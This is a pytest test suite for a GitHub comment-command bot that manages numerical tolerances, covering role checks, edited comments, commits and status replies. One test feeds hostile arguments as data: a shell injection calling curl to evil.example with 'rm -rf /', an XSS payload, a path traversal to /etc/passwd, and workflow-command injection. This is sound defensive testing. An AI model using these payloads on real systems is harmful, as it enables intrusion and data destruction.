"""Commands by comment, from the event to commit, reply and check: a real server, real git."""

from __future__ import annotations

import re
from typing import Any

import msgspec
import pytest
from github_desk import (
    APPROVE,
    KERNEL,
    NO_WORKFLOWS,
    NOTE,
    PATH,
    RELU,
    ROLES,
    SOFTMAX,
    WIDEN,
    Desk,
    desk,
    push,
    scrubbed,
    untouched,
)
from github_site import CHANGED, CORPUS, claims, trusted
from github_support import hub

from tolcal import tolerances
from tolcal.github import command
from tolcal.model import AllClose, TolcalError, Values
from tolcal.report import text

__all__ = ["desk", "hub", "trusted"]  # fixtures


def test_the_whole_round_trip_as_a_process(desk: Desk) -> None:
    """A regression blocks; a maintainer widens by comment; the check of the new head is green."""
    assert desk.report(desk.run) == 1
    assert desk.said(desk.pull) == ("completed", "failure")
    digest = desk.digest
    line = WIDEN.format(digest=digest)
    comment = desk.say("maintain", f"{line}\r\n\r\nThanks for the measurements!")
    status, printed = desk.process_command(comment)
    assert (status, printed) == (
        0,
        "tolcal: pull request 41: success: no regressions. 1 tolerance can tighten.\n",
    )
    assert desk.reactions(comment) == ["rocket"]
    assert scrubbed(desk, desk.reply(comment)) == (
        "Widened for `maintain` because the sum is in another order: 1 cell (`relu/float32`) in "
        f"[`SHA`](https://github.example/octo/kernels/commit/SHA).\n\n{NO_WORKFLOWS}"
    )
    # What is in the file
    widened = desk.cells[RELU]
    mark = widened.approved
    assert mark is not None
    assert (mark.by, mark.pr, mark.digest, mark.reason) == (
        "maintain", 41, digest, "the sum is in another order",
    )  # fmt: skip
    assert mark.value == widened.value_digest
    assert widened.evidence
    assert widened.evidence.runs == desk.runs
    before = tolerances.of_text(desk.before, PATH)
    assert desk.cells == before | {RELU: widened}
    assert desk.file.startswith(NOTE)
    softmax = desk.before[desk.before.index("[softmax.float32]") :]
    assert softmax in desk.file  # byte for byte
    # What is in git
    message = desk.git("log", "-1", "--format=%an%n%P%n%B", desk.pull.head_sha)
    bot, parent, subject, *_ = message.split("\n")
    assert (bot, parent) == ("github-actions[bot]", desk.measured)
    assert subject == "Widen 1 tolerance"
    assert "another order" not in message  # words of a comment are none of a commit's
    assert f"Tolcal-Comment: {comment.id}\nTolcal-By: maintain\n" in message
    assert desk.git("diff", "--name-only", desk.measured, desk.pull.head_sha) == f"{PATH}\n"
    # What became of the pull request
    assert desk.said(desk.pull) == ("completed", "success")
    (shown,) = [c for c in desk.comments if c.body.startswith("<!-- tolcal:v1 ")]
    assert "no regressions.\n1 tolerance can tighten" in shown.body


# --- who ------------------------------------------------------------------------------------

DONE = re.compile(r"(Approved|Widened|Rejected|Measuring|As the first|\*\*)")
MATRIX = {
    "/tolcal help": ("none", "read", "triage", "write", "maintain", "admin", "alice"),
    "/tolcal explain relu/float32": ("read", "triage", "write", "maintain", "admin", "alice"),
    "/tolcal status": ("read", "triage", "write", "maintain", "admin", "alice"),
    "/tolcal reject {digest}": ("write", "maintain", "admin", "alice"),
    WIDEN: ("maintain", "admin"),
    APPROVE: ("write", "maintain", "admin", "alice"),
    "/tolcal rerun": ("write", "maintain", "admin", "alice"),
}


@pytest.mark.parametrize("who", [*ROLES, "alice"])
def test_each_command_by_each_role(desk: Desk, who: str) -> None:
    """Complaint 17, 18: by the collaborators endpoint, and always with the reason in the reply."""
    if who == "none":
        desk.hub.main.private = True
    for line, may in MATRIX.items():
        comment = desk.say(who, line)
        said = desk.handle(comment)
        assert bool(DONE.match(said)) == (who in may), (line, said)
        if who not in may:
            verb = line.split()[1]
            least = "maintain" if verb == "widen" else "write"
            least = "read" if verb in ("explain", "status") else least
            expected = f"Not done: {verb} needs the role {least} on this repository, and `{who}`"
            if who == "alice":
                expected = "Not done: alice may not widen tolerances here: they opened this pull "
            assert said.startswith(expected), said
            assert desk.reactions(comment) == ["confused"]
        del desk.hub.main.comments[comment.id]  # withdraws a rejection
    assert untouched(desk) == (who in ("none", "read", "triage"))


def test_bots_are_not_listened_to(desk: Desk) -> None:
    """Not even this one, and not one with a user's type or name; no call is made."""
    for login, kind in (("github-actions[bot]", "Bot"), ("x[bot]", "User"), ("robot", "Bot")):
        comment = desk.say(login, "/tolcal help")
        comment.author.kind = kind
        assert desk.handle(comment) == ""
        assert desk.hub.calls == []


def test_an_author_may_widen_where_the_input_says_so(desk: Desk) -> None:
    """Attack 6: a repository of one person, and the reply says what that was."""
    said = desk.ask("alice", WIDEN, self_approval=True)
    assert (
        "**Widened by an author**: they opened this pull request, which this repository lets pass"
    ) in said
    assert desk.said(desk.pull) == ("completed", "success")
    # A job without the input does not count it.
    assert desk.judged.refused == {
        RELU: "alice may not widen it: they opened this pull request; somebody else has to"
    }


def test_an_account_that_took_a_name_has_no_rights_of_it(desk: Desk) -> None:
    """By user id: logins change hands."""
    comment = desk.say("admin", APPROVE)
    comment.author = namesake(comment.author)
    said = desk.handle(comment)
    assert (
        said == "Not done: approve needs the role write on this repository, and `admin` has none."
    )


def namesake(user: Any) -> Any:
    """An account of the same name with another id."""
    return type(user)(user.id + 10_000, user.login)


# --- what is no command ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "action"),
    [
        (APPROVE, "edited"),
        ("/tolcal help", "deleted"),
        ("> " + APPROVE, "created"),
        (f"```\n{APPROVE}\n```", "created"),
        (f"    {APPROVE}", "created"),
        (f"\n{APPROVE}", "created"),
        ("LGTM", "created"),
    ],
)
def test_nothing_but_new_comments_first_line(desk: Desk, body: str, action: str) -> None:
    """Attack 8: an edit, a quote, a code block, a later line; not one call is made."""
    assert desk.handle(desk.say("admin", body), action) == ""
    assert desk.hub.calls == []
    assert untouched(desk)


def test_a_comment_that_was_edited_before_its_turn(desk: Desk) -> None:
    """Attack 8: what the event holds is not what stands there any more."""
    comment = desk.say("admin", "/tolcal help")
    job = desk.hub.job("issue_comment", desk.event(comment))
    desk.hub.edit(comment, APPROVE.format(digest=desk.digest))
    assert command.run(desk.client(), desk.inputs, job) == 0
    assert desk.reply(comment) == (
        "Not done: the comment was edited; what is asked for takes a new one."
    )
    del desk.hub.main.comments[comment.id]
    assert command.run(desk.client(), desk.inputs, job) == 0
    assert untouched(desk)


@pytest.mark.parametrize(
    "argument",
    [
        "approve " + "x" * 10_000,
        "approve $(curl https://evil.example) `id` && rm -rf /",
        "approve <img src=x onerror=alert(1)> @maintain #1 [x](https://evil.example)",
        "approve 9c1e7a40d2b86f13 | x |\x1b[31m",
        "\u0430pprove 9c1e7a40d2b86f13",
        "approve 9c1e7a40d2b86f13 ../../../etc/passwd",
        "explain softmax/float16%0a::error::x",
        "::set-output name=x::y",
    ],
)
def test_hostile_arguments_get_help(desk: Desk, argument: str) -> None:
    """Attacks 10, 11, 16: shell, Markdown, look-alikes, 10 kB: quoted inert, and help."""
    said = desk.ask("read", f"/tolcal {argument}")
    first, _, rest = said.partition("\n")
    assert first.startswith("Not understood: ")
    assert len(first) < 4000
    assert not re.search(r"[<>`|@]|https:|\x1b|^::", first)
    assert rest.strip().startswith("As the first line of a new comment:")


def test_other_events_are_a_mistake_of_the_workflow(desk: Desk) -> None:
    """Complaint 10: the number is the issue's; an issue that is no pull request is passed by."""
    job = desk.hub.job("pull_request", {})
    with pytest.raises(TolcalError, match="is for the event issue_comment, not pull_request"):
        command.run(desk.client(), desk.inputs, job)
    event = desk.event(desk.say("admin", APPROVE))
    assert "pull_request" not in event
    del event["issue"]["pull_request"]
    assert command.of_event(desk.hub.job("issue_comment", event)) == "#41 is no pull request"
    for broken in ({}, {"issue": 3, "comment": {}}, {"issue": {"number": "41"}, "comment": {}}):
        with pytest.raises(TolcalError, match="the event"):
            command.of_event(desk.hub.job("issue_comment", broken))


def test_a_closed_pull_request_stays_as_it_is(desk: Desk) -> None:
    """Complaint 21."""
    comment = desk.say("admin", APPROVE)
    desk.pull.state = "closed"
    assert desk.handle(comment) == "Not done: pull request 41 is closed; reopen it first."


# --- the file -------------------------------------------------------------------------------


def test_a_file_that_the_author_broke_is_not_edited(desk: Desk) -> None:
    """The reply names its line."""
    desk.hub.push(desk.pull, {PATH: desk.before + "[gelu.float16]\natol = 'x'\n"})
    desk.measure(desk.pull, claims(1))
    desk.measured = desk.pull.head_sha
    said = desk.ask("write", APPROVE)
    plain = said.replace("\u200d", "")
    assert re.fullmatch(r"Not done: tolerances.toml:\d+: gelu.float16.atol: .*\.", plain), said
    assert untouched(desk)


def test_overrides_by_hand_are_not_approved_along(desk: Desk) -> None:
    """Attack 4: what the author wrote under the cell is neither covered nor lost unseen."""
    wide = tolerances.of_text(desk.before, PATH)[SOFTMAX]
    looser = Values(1.0, 1.0, AllClose(1.0, 1.0))
    on = msgspec.structs.replace(wide, on={"sm_90": looser})
    desk.hub.push(desk.pull, {PATH: tolerances.edited(desk.before, {SOFTMAX: on}, PATH)})
    desk.measured = desk.pull.head_sha
    desk.measure(desk.pull, claims(1))
    said = desk.ask("write", APPROVE)
    assert said == (
        "Not done: tolerances.toml: softmax/float32: its overrides for single devices were changed "
        "by hand in this pull request, and an approval would take them out; restore them first."
    )
    assert untouched(desk)


def test_cells_that_the_corpus_lacks_are_left_out(desk: Desk) -> None:
    """The pull request deletes softmax: `tolcal check` would refuse a cell of it."""
    gone = dict.fromkeys(path for path in CORPUS if path.startswith("corpus/softmax/"))
    desk.hub.push(desk.pull, gone)
    desk.measured = desk.pull.head_sha
    records = [r for r in claims(1) if r.case.op == "relu"]
    desk.measure(desk.pull, records)
    assert desk.ask("write", APPROVE) == (
        "Not done: softmax/float32: not in the corpus of this pull request."
    )
    assert untouched(desk)


# --- asking ---------------------------------------------------------------------------------


def test_status(desk: Desk) -> None:
    """What can be done, what counts and what does not."""
    desk.ask("write", f"{APPROVE} softmax")
    approved = desk.pull.head_sha
    desk.hub.push(
        desk.pull, {PATH: desk.file.replace("atol = 1.4901161193847656e-08", "atol = 1.0")}
    )
    desk.measure(desk.pull, claims(1))
    said = desk.ask("read", "/tolcal status")
    at = desk.cells[SOFTMAX].approved
    assert at
    assert scrubbed(desk, said) == (
        "**blocked by 1 regression.** Head `SHA`, proposal `DIGEST`.\n\n"
        "In it: 1 cell that would be looser.\n\n"
        f"```\n/tolcal widen {desk.digest} relu/float32 because REASON\n```\n\n"
        "Approved on this head, and counted:\n\n"
        f"- `softmax/float32`: approved by `write` at `{at.at}` in #41\n\n"
        "On this head and **not counted**:\n\n"
        "- `relu/float32`: no approval of proposal 9c1e7a40d2b86f13 by a comment on this pull "
        "request; values that were approved elsewhere count once they are merged"
    )
    assert approved[:7] not in said


def test_explain(desk: Desk) -> None:
    """Why this number: rows, runs, devices, the worst case with the line that replays it."""
    said = desk.ask("read", "/tolcal explain relu/float32")
    judged = desk.judged
    c = next(c for c in judged.document.proposal.cells if (c.op, c.dtype) == RELU)
    assert c.tolerance
    assert c.plots
    (worst,) = (s for s in c.plots.kernels[0].shapes[:1])
    (f,) = (f for f in judged.document.verdict.findings if f.op == "relu")  # type: ignore[union-attr]
    held = text.held_out_claim(0, c.runs)
    assert said == (
        "**`relu/float32`**\n\n"
        "- in force: residual at most 1.49012e-08 + 0 u (&#124;ref&#124; + sigma), bias at most "
        "0.31; approved by `a-maintainer` at `2026-04-01T10:12:00+00:00` in #7\n"
        "- it rests on 800 rows of 20 runs on NVIDIA H200; 0 of 20 held-out runs red (at most "
        "14.0 % of runs, 95 % confidence); detectable recall -\n"
        f"- proposed (looser): residual at most {c.tolerance.atol:g} + {c.tolerance.scaled_tol:g} "
        "u (&#124;ref&#124; + sigma), bias at most 0.01; of the error at the median element 7.5e-8 "
        "is allowed now, "
        f"{text.scientific(c.allowed_proposed)} proposed ({text.factor(c.tightening)})\n"
        f"- from {c.rows} rows of {c.runs} runs on NVIDIA H200; {held}; detectable recall -\n"
        f"- worst case of a control: `relu_triton` at `{worst.dims}` needs "
        f"{text.number(worst.share)} of what is proposed; "
        f"`tolcal replay relu_triton:{worst.case}`\n"
        "- here: regression of `relu_triton` in 6 of 6 cases, worst at `B=1 S=7 H=256`; "
        f"`tolcal replay {f.worst}`"
    )
    assert desk.ask("read", "/tolcal explain relu/float16") == (
        "Not done: relu/float16: neither approved nor in the history; did you mean 'relu/float32'?"
    )


def test_what_lost_its_comment_turns_the_check(desk: Desk) -> None:
    """An edited or deleted decision is looked at again; and `status` says what it sets right."""
    comment = desk.say("maintain", WIDEN)
    desk.handle(comment)
    assert desk.said(desk.pull) == ("completed", "success")
    event = desk.event(comment, "edited")
    event["changes"] = {"body": {"from": comment.body}}
    desk.hub.edit(comment, "never mind")
    job = desk.hub.job("issue_comment", event)
    assert command.run(desk.client(), desk.inputs, job) == 0
    (*_, newest) = desk.hub.checks(desk.pull.head_sha)
    assert newest.values["conclusion"] == "failure"
    # The other way: a rejection that goes
    again = desk.say("maintain", WIDEN)
    desk.handle(again)
    no = desk.say("write", f"/tolcal reject {again.body.split()[2]}")
    assert desk.handle(no).startswith("Rejected: ")
    (*_, newest) = desk.hub.checks(desk.pull.head_sha)
    assert newest.values["conclusion"] == "failure"
    event = desk.event(no, "deleted")
    del desk.hub.main.comments[no.id]
    assert command.run(desk.client(), desk.inputs, desk.hub.job("issue_comment", event)) == 0
    (*_, newest) = desk.hub.checks(desk.pull.head_sha)
    assert newest.values["conclusion"] == "success"
    del desk.hub.main.comments[again.id]
    assert "**not counted**" in desk.ask("read", "/tolcal status")
    (*_, newest) = desk.hub.checks(desk.pull.head_sha)
    assert newest.values["conclusion"] == "failure"


def test_nothing_is_written_onto_the_default_branch(desk: Desk) -> None:
    """A pull request whose head is main: an approval would hold at once, unreviewed."""
    main = desk.hub.main
    main.git.update("refs/heads/stable", desk.git("rev-parse", "main~1").strip())
    main.commit("main", {KERNEL: CHANGED})
    desk.pull = desk.hub.pull("main", base="stable", author="bob")
    desk.measured = desk.pull.head_sha
    desk.measure(desk.pull, claims(1))
    assert desk.ask("write", APPROVE).startswith("Not done: the head is main, the default branch")
    assert desk.git("rev-parse", "main").strip() == desk.measured


def test_rerun(desk: Desk) -> None:
    """The measuring run of the head, once; also when an approval stands above it."""
    desk.ask("write", APPROVE)
    said = desk.ask("write", "/tolcal rerun")
    link = f"{desk.hub.api.url}/octo/kernels/actions/runs/{desk.run.id}"
    head = desk.measured[:7]
    assert said == f"Measuring `{head}` again: [attempt 2]({link})."
    assert (desk.run.status, desk.run.attempt) == ("queued", 2)
    assert desk.ask("write", "/tolcal rerun") == f"[Attempt 2]({link}) of `{head}` is on its way."
    push(desk)
    assert desk.ask("write", "/tolcal rerun") == (
        f"Not done: no run of .github/workflows/tolcal.yml has measured {desk.pull.head_sha[:7]}; "
        "push, or close and reopen the pull request, to start one."
    )


def test_without_a_measurement_there_is_nothing_to_approve(desk: Desk) -> None:
    """Nor to explain: the reply says what is missing."""
    push(desk)
    said = desk.ask("read", "/tolcal status")
    assert said.startswith("Not done: tolcal.yml has not run for ")
